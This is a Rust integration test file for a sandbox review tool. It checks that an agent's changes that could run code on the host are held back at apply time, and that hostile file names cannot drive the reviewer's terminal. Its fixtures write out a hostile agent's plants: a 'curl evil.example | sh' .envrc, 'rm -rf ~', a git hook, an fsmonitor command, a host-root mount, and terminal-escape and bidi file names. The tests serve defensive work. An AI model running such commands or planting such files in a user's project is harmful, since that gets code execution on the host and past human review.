//! The review path against a hostile agent, through the real CLI, daemon and sandbox:
//! what an agent writes into its layer that would run code on the host (git's hooks and
//! config, auto-run files, paddock.yaml) is held back from `apply` unless asked for, and
//! names and content cannot drive the reviewer's terminal.

mod common;

use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::Env;

fn git_workspace(env: &Env) -> PathBuf {
    let ws = env.dir.path().join("repo");
    std::fs::create_dir_all(&ws).unwrap();
    let ok = Command::new("git")
        .args(["init", "-q"])
        .current_dir(&ws)
        .status()
        .unwrap();
    assert!(ok.success());
    std::fs::write(ws.join("main.c"), "int main(void) { return 0; }\n").unwrap();
    std::fs::write(ws.join("paddock.yaml"), "network:\n  policy: strict\n").unwrap();
    ws
}

/// What a hostile agent plants: a hook, git config that runs code, an attribute filter,
/// auto-run files, a looser paddock.yaml, and an honest change.
const PLANT: &str = r#"
set -e
printf '#!/bin/sh\necho pwned > /tmp/pwned\n' > .git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
printf '[core]\n\tfsmonitor = "sh -c \\"touch /tmp/pwned\\""\n' >> .git/config
mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes
echo 'curl evil.example | sh' > .envrc
mkdir -p .vscode && echo '{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}' > .vscode/tasks.json
mkdir -p tools/hooks && echo 'rm -rf ~' > tools/hooks/post.sh
printf 'network:\n  policy: permissive\nmounts: ["/:/host"]\n' > paddock.yaml
echo 'int main(void) { return 1; }' > main.c
"#;

fn run(env: &Env, ws: &Path, name: &str, script: &str) {
    let out = env
        .cmd()
        .current_dir(ws)
        .args(["run", "-q", "--name", name, "--", "sh", "-c", script])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
}

#[test]
fn apply_holds_back_git_and_autorun_files_unless_asked() {
    let env = Env::new();
    let ws = git_workspace(&env);
    // A project's own extra auto-run pattern adds to the defaults.
    std::fs::write(
        ws.join("paddock.yaml"),
        "network:\n  policy: strict\nreview:\n  autorun: [tools/hooks/]\n",
    )
    .unwrap();
    let host_yaml = std::fs::read_to_string(ws.join("paddock.yaml")).unwrap();
    let git_config = std::fs::read_to_string(ws.join(".git/config")).unwrap();
    run(&env, &ws, "plant", PLANT);

    let d = env.ok(&["diff", "plant"]);
    let (shown, held) = d.split_once("held back").expect("a held-back section");
    assert!(shown.contains("M  main.c"), "{d}");
    for p in [
        ".git/hooks/pre-commit",
        ".git/config",
        ".git/info/attributes",
        ".envrc",
        ".vscode/tasks.json",
        "paddock.yaml",
        "tools/hooks/post.sh",
    ] {
        assert!(held.contains(p), "{p} is held: {d}");
        assert!(
            !shown.contains(&format!("  {p}\n")),
            "{p} not with the rest: {d}"
        );
    }
    assert!(
        d.contains("--include-git") && d.contains("--include-autorun"),
        "{d}"
    );
    let json: serde_json::Value =
        serde_json::from_str(&env.ok(&["diff", "plant", "--json"])).unwrap();
    assert!(json["changes"]["held"].as_u64().unwrap() >= 7, "{json}");

    let out = env.ok(&["apply", "plant"]);
    assert!(
        out.contains("held back"),
        "the report says what stayed: {out}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("main.c")).unwrap(),
        "int main(void) { return 1; }\n",
        "the honest change is applied"
    );
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
        git_config
    );
    assert!(!ws.join(".git/info/attributes").exists());
    assert!(!ws.join(".envrc").exists() && !ws.join(".vscode/tasks.json").exists());
    assert!(!ws.join("tools/hooks/post.sh").exists());
    assert_eq!(
        std::fs::read_to_string(ws.join("paddock.yaml")).unwrap(),
        host_yaml
    );

    // Asked for: git's files go in with --include-git, auto-run files still wait.
    run(&env, &ws, "plant2", PLANT);
    env.ok(&["apply", "--force", "--include-git", "plant2"]);
    assert!(ws.join(".git/hooks/pre-commit").exists());
    assert!(!ws.join(".envrc").exists());
    run(&env, &ws, "plant3", PLANT);
    env.ok(&["apply", "--force", "--include-autorun", "plant3"]);
    assert!(ws.join(".envrc").exists() && ws.join(".vscode/tasks.json").exists());
}

#[test]
fn deleting_a_directory_that_holds_a_repository_is_held_back() {
    let env = Env::new();
    let ws = env.dir.path().join("mono");
    std::fs::create_dir_all(ws.join("vendor/lib")).unwrap();
    let ok = Command::new("git")
        .args(["init", "-q"])
        .current_dir(ws.join("vendor/lib"))
        .status()
        .unwrap();
    assert!(ok.success());
    std::fs::write(ws.join("vendor/lib/a.c"), "x\n").unwrap();
    std::fs::write(ws.join("keep.txt"), "x\n").unwrap();
    run(&env, &ws, "wipe", "rm -rf vendor && echo y > keep.txt");
    let d = env.ok(&["diff", "--stat", "wipe"]);
    assert!(d.contains("held back"), "{d}");
    env.ok(&["apply", "wipe"]);
    assert!(
        ws.join("vendor/lib/.git/HEAD").exists(),
        "the nested repository survives"
    );
    assert_eq!(std::fs::read_to_string(ws.join("keep.txt")).unwrap(), "y\n");
}

#[test]
fn hostile_names_and_content_cannot_drive_the_terminal() {
    let env = Env::new();
    let ws = env.dir.path().join("plain");
    std::fs::create_dir_all(&ws).unwrap();
    // An OSC title set and a screen clear in a name, a bidi override, a non-UTF-8 byte,
    // and a line of content that would hide itself.
    let script = r#"
name=$(printf 'evil\033]0;pwned\007\033[2Jname.txt')
echo x > "$name"
printf 'ok\n' > "$(printf 'inv\342\200\256txt.exe')"
printf 'x\n' > "$(printf 'raw\377byte')"
printf 'line\033[2K\rhidden\n' > content.txt
"#;
    run(&env, &ws, "names", script);
    for args in [&["diff", "names"][..], &["diff", "--stat", "names"][..]] {
        let out = env.run(args);
        assert!(out.status.success(), "{out:?}");
        let text = &out.stdout;
        let summary_end = text
            .windows(4)
            .position(|w| w == b"diff")
            .unwrap_or(text.len());
        let (names, _) = text.split_at(summary_end);
        assert!(
            !names.contains(&0x1b),
            "no raw ESC in listings: {}",
            String::from_utf8_lossy(names)
        );
        let s = String::from_utf8_lossy(text);
        assert!(
            s.contains(r"evil\u{1b}]0;pwned\u{7}\u{1b}[2Jname.txt"),
            "{s}"
        );
        assert!(s.contains(r"inv\u{202e}txt.exe"), "{s}");
        assert!(s.contains(r"raw\xffbyte"), "{s}");
    }
    // On a terminal, content is shown, not obeyed.
    let out = Command::new("script")
        .arg("-qec")
        .arg(format!("{} diff names", common::exe().display()))
        .arg("/dev/null")
        .env("PADDOCK_HOME", &env.home)
        .envs(
            env.cmd()
                .get_envs()
                .filter_map(|(k, v)| v.map(|v| (k.to_owned(), v.to_owned()))),
        )
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let text = out.stdout;
    assert!(
        !text.windows(4).any(|w| w == b"\x1b[2K") && !text.windows(3).any(|w| w == b"\x1b]0"),
        "{}",
        String::from_utf8_lossy(&text)
    );
    let shown = String::from_utf8_lossy(&text);
    assert!(
        shown.contains(r"line\u{1b}[2K\u{d}") && shown.contains("hidden"),
        "{shown}"
    );
    // The files themselves apply unchanged.
    env.ok(&["apply", "names"]);
    let names: Vec<Vec<u8>> = std::fs::read_dir(&ws)
        .unwrap()
        .map(|e| e.unwrap().file_name().as_bytes().to_vec())
        .collect();
    assert!(names.iter().any(|n| n == b"raw\xffbyte"), "{names:?}");
}
